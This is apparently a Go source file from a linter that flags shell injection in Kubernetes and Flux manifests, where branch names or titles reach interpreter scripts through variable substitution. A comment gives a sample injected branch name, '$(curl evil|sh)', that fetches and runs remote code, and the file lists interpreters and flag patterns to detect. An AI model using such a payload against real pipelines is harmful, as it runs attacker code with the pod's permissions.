package lint

import (
	"fmt"
	"iter"
	"path"
	"regexp"
	"slices"
	"strings"

	"github.com/eddy-previews/eddy/internal/manifest"
)

// shellText finds text of a forge in a program that somebody else's words can change: a
// script of a shell or another interpreter, in a command or in a ConfigMap. A branch may
// be called $(curl evil|sh), and runs with all that the pod may do.
var shellText = inServices(
	each(within(stampedHostile, object.scripts), textInScript),
	each(within(deployed, object.scripts), textThroughFlux),
)

// stampedHostile are what is stamped out, Kustomizations aside, of a request whose texts
// are YAML.
func stampedHostile(s *Service) iter.Seq[object] {
	return within(hostile, func(p part) []object {
		if p.Kustomization != nil {
			return nil
		}
		return []object{p.object()}
	})(s)
}

// script is a text that an interpreter runs.
type script struct {
	object object
	path   []any
	text   string
	// container that it is run in, nil for one of a ConfigMap.
	container map[string]any
}

// textInScript finds the text itself, and $(NAME), which Kubernetes replaces by it before
// a shell sees it.
func textInScript(s script) *Finding {
	if !s.object.part.service.hasPreviews() {
		return nil
	}
	if strings.Contains(s.text, hostileText) {
		return s.finding("the text of the request is put")
	}
	return s.through(stampedHostile(s.object.part.service), []string{hostileText})
}

// textThroughFlux finds ${NAME}, which Flux replaces in an overlay.
func textThroughFlux(s script) *Finding {
	raw := s.object.part.rawTexts()
	if slices.ContainsFunc(raw, func(text string) bool { return strings.Contains(s.text, text) }) {
		return s.finding("Flux puts the text of the request")
	}
	return s.through(deployed(s.object.part.service), raw)
}

// through finds a variable of Kubernetes that has one of some texts.
func (s script) through(beside iter.Seq[object], raw []string) *Finding {
	for _, name := range s.expanded() {
		value := s.variable(name, beside)
		if slices.ContainsFunc(raw, func(text string) bool { return strings.Contains(value, text) }) {
			return s.finding(fmt.Sprintf("Kubernetes puts the text of the request, for $(%s),", name))
		}
	}
	return nil
}

func (s script) finding(how string) *Finding {
	return &Finding{
		Position: s.object.where(s.path...),
		Message: fmt.Sprintf("%s into the script in %s of %s %q: who names a branch or writes a title runs commands there, with all that the pod may do",
			how, manifest.Dotted(s.path), s.object.GetKind(), s.object.GetName()),
		Fix: `pass it as an environment variable, and write "$NAME" in the script: env: [{name: NAME, value: << inputs.branch | quote >>}]; or take the number`,
	}
}

// expansion is a variable that Kubernetes replaces in a command, and $$(NAME), which it
// leaves.
var expansion = regexp.MustCompile(`(\$?)\$\((\w+)\)`)

// expanded are the variables that Kubernetes replaces in the script of a container.
func (s script) expanded() []string {
	if s.container == nil {
		return nil
	}
	var out []string
	for _, found := range expansion.FindAllStringSubmatch(s.text, -1) {
		if found[1] == "" {
			out = append(out, found[2])
		}
	}
	return out
}

// scripts lists those of the object: of its containers, wherever they are, and those that
// a ConfigMap or a Secret holds.
func (o object) scripts() []script {
	out := scriptsIn(o, o.Object, nil)
	if kind := o.GetKind(); kind != "ConfigMap" && kind != "Secret" {
		return out
	}
	for _, field := range []string{"data", "stringData"} {
		values, _ := at(o.Object, field).(map[string]any)
		for _, key := range sortedKeys(values) {
			if text, _ := values[key].(string); isScript(key, text) {
				out = append(out, script{o, []any{field, key}, text, nil})
			}
		}
	}
	return out
}

// scriptsIn looks for commands below a value: lists called command and args, and the
// scripts of the kinds that call them so.
func scriptsIn(o object, value any, at []any) []script {
	var out []script
	switch value := value.(type) {
	case []any:
		for i, item := range value {
			out = append(out, scriptsIn(o, item, extend(at, i))...)
		}
	case map[string]any:
		if found, is := commandScript(o, value, at); is {
			out = append(out, found)
		}
		for _, key := range sortedKeys(value) {
			text, isText := value[key].(string)
			run := key == "script" || key == "source" && value["image"] != nil || key == "command" && shellCall.MatchString(text)
			if isText && run {
				out = append(out, script{o, extend(at, key), text, value})
			}
			out = append(out, scriptsIn(o, value[key], extend(at, key))...)
		}
	}
	return out
}

// interpreters run what stands after -c or -e.
var interpreters = []string{
	"sh", "bash", "ash", "dash", "zsh", "ksh", "busybox", "python", "python3", "node", "perl", "ruby", "php", "psql", "mysql", "eval", "pwsh", "powershell",
}

var (
	shellCall = regexp.MustCompile(`\b(ba|a|da|z|k)?sh\s+(-\w+\s+)*-\w*c\b`)
	// runs is the flag whose value an interpreter runs.
	runs = regexp.MustCompile(`^(-[a-zA-Z]*[ce]|--command|--eval|--execute)$`)
	// inlined is such a flag with its value.
	inlined = regexp.MustCompile(`^(--command|--eval|--execute)=`)
)

// commandScript finds the script that a command and its arguments run.
func commandScript(o object, container map[string]any, at []any) (script, bool) {
	type word struct {
		text string
		path []any
	}
	var words []word
	for _, field := range []string{"command", "args"} {
		list, _ := container[field].([]any)
		for i, item := range list {
			text, _ := item.(string)
			words = append(words, word{text, extend(extend(at, field), i)})
		}
	}
	command, _ := container["command"].([]any)
	interpreted := len(command) == 0 && len(words) > 0 // by the entrypoint of the image
	for i, word := range words {
		switch {
		case inlined.MatchString(word.text) && interpreted:
			return script{o, word.path, word.text, container}, true
		case runs.MatchString(word.text) && interpreted && i+1 < len(words):
			return script{o, words[i+1].path, words[i+1].text, container}, true
		case slices.Contains(interpreters, path.Base(word.text)):
			interpreted = true
		}
	}
	return script{}, false
}

// isScript reports whether a key of a ConfigMap, or how its text begins, says that
// somebody runs it.
func isScript(key, text string) bool {
	ends := []string{".sh", ".bash", ".zsh", ".py", ".pl", ".rb", ".js", ".mjs", ".ts", ".php", ".sql", ".ps1", ".lua", ".groovy"}
	return strings.HasPrefix(strings.TrimSpace(text), "#!") || slices.Contains(ends, path.Ext(key)) ||
		slices.Contains([]string{"entrypoint", "script", "run", "init", "seed"}, key) && strings.Contains(text, "\n")
}

// variable returns the value that a variable has in the container, as far as files tell:
// its own, or that of a ConfigMap beside it.
func (s script) variable(name string, beside iter.Seq[object]) string {
	list, _ := s.container["env"].([]any)
	for _, item := range list {
		if textAt(item, "name") != name {
			continue
		}
		if from := textAt(item, "valueFrom", "configMapKeyRef", "name"); from != "" {
			return dataOf(beside, from, textAt(item, "valueFrom", "configMapKeyRef", "key"))
		}
		return textAt(item, "value")
	}
	list, _ = s.container["envFrom"].([]any)
	for _, item := range list {
		if value := dataOf(beside, textAt(item, "configMapRef", "name"), strings.TrimPrefix(name, textAt(item, "prefix"))); value != "" {
			return value
		}
	}
	return ""
}

// dataOf returns a value of a ConfigMap among objects.
func dataOf(among iter.Seq[object], name, key string) string {
	for other := range among {
		if other.GetKind() == "ConfigMap" && other.GetName() == name && name != "" {
			return textAt(other.Object, "data", key)
		}
	}
	return ""
}

// rawTexts are the texts of the first request that variables of Flux hand on as they
// are; none for what is stamped out.
func (p part) rawTexts() []string {
	var out []string
	for other := range hostile(p.service) {
		if p.Kustomization == nil || other.Stamped.Field != p.Stamped.Field || other.Kustomization == nil {
			continue
		}
		for name, value := range other.substitutes() {
			if first := strings.Trim(p.substitutes()[name], `"'`); strings.Contains(value, hostileText) && first != "" {
				out = append(out, first)
			}
		}
	}
	return out
}
